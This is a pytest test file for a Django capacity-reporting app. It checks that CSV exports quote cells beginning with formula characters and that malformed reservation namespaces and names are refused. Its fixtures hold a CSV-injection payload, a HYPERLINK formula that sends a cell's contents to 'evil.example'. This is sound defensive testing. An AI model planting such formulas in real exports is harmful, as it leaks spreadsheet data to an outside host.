"""CSV exports never carry a formula, and owner namespaces are namespace names (issue 28
item 4).

A cluster named ``=HYPERLINK("http://evil.example","x")`` or a GPU model label
``@SUM(1+1)`` is data: each CSV cell that a spreadsheet would evaluate (leading
``=``, ``+``, ``-``, ``@``, tab, carriage return: OWASP "CSV Injection") is written
with a leading ``'``. A reservation whose owner namespace is not a DNS-1123 label
(what the API server requires of a namespace) is refused with a 400 naming the field.
"""

import csv
import io

import pytest
from builders import add_sample, at, make_evaluation, make_reservation

pytestmark = pytest.mark.django_db

RANGE = {"start": "2026-03-01T00:00:00Z", "end": "2026-03-02T00:00:00Z"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def csv_rows(response):
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def formula_cluster(db):
    """A cluster whose name, GPU model and team reach the CSV exports."""
    from topology.models import Cluster

    cluster = Cluster.objects.create(name=HYPERLINK, source_kind="files")
    heatmap = [{"node": "n1", "gpu": "0", "reservation": "ra", "model": "@SUM(1+1)"}]
    evaluation = make_evaluation(
        cluster, at(1, 0), result={"heatmap": heatmap}, naive_cost_per_hour=1.0
    )
    reservation = make_reservation(cluster, "ra", "team-a")
    add_sample(reservation, evaluation, reserved=1, idle=1, cost_per_hour=1.0)
    return cluster


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_it_quotes_each_formula_prefix(prefix):
    from capacityweb.api.renderers import spreadsheet_safe

    assert spreadsheet_safe(f"{prefix}1+1") == f"'{prefix}1+1"


def test_it_keeps_numbers_and_plain_text_as_they_are():
    from capacityweb.api.renderers import spreadsheet_safe

    assert (spreadsheet_safe(-12.5), spreadsheet_safe("prod-gpu/ra")) == (-12.5, "prod-gpu/ra")


def test_it_writes_a_cluster_named_like_a_formula_as_text_in_the_waste_csv(
    staff_client, formula_cluster
):
    rows = csv_rows(staff_client.get("/api/v1/reports/waste/", {**RANGE, "format": "csv"}))

    assert rows[1][0] == "'" + HYPERLINK


def test_it_writes_a_gpu_model_named_like_a_formula_as_text_in_the_idle_csv(
    staff_client, formula_cluster
):
    response = staff_client.get(
        "/api/v1/reports/idle-reservations/", {**RANGE, "group_by": "gpu_model", "format": "csv"}
    )

    assert csv_rows(response)[1][0] == "'@SUM(1+1)"


def test_it_writes_a_reservation_group_named_like_a_formula_as_text(staff_client, formula_cluster):
    response = staff_client.get("/api/v1/reports/idle-reservations/", {**RANGE, "format": "csv"})

    assert csv_rows(response)[1][0] == "'" + HYPERLINK + "/ra"


def test_it_refuses_an_owner_namespace_that_is_not_a_namespace_name(staff_client, cluster):
    from reservations.models import Reservation

    spec = {"owner": {"namespaces": ["=HYPERLINK(1)"]}, "nodeNames": ["n1"]}
    response = staff_client.post(
        "/api/v1/reservations/",
        {"cluster": cluster.id, "name": "r", "spec": spec},
        format="json",
    )

    assert response.status_code == 400
    message = response.json()["spec"][0]
    assert message.startswith("Reservation/r: spec.owner.namespaces[0]: '=HYPERLINK(1)': ")
    assert "RFC 1123 label" in message
    assert not Reservation.objects.exists()


def test_it_refuses_a_reservation_name_that_is_not_an_object_name(staff_client, cluster):
    from reservations.models import Reservation

    spec = {"owner": {"namespaces": ["team-a"]}, "nodeNames": ["n1"]}
    response = staff_client.post(
        "/api/v1/reservations/",
        {"cluster": cluster.id, "name": "=HYPERLINK(1)", "spec": spec},
        format="json",
    )

    assert response.status_code == 400
    [message] = response.json()["spec"]
    assert message.startswith("Reservation/=HYPERLINK(1): metadata.name: '=HYPERLINK(1)': ")
    assert "RFC 1123 subdomain" in message
    assert not Reservation.objects.exists()
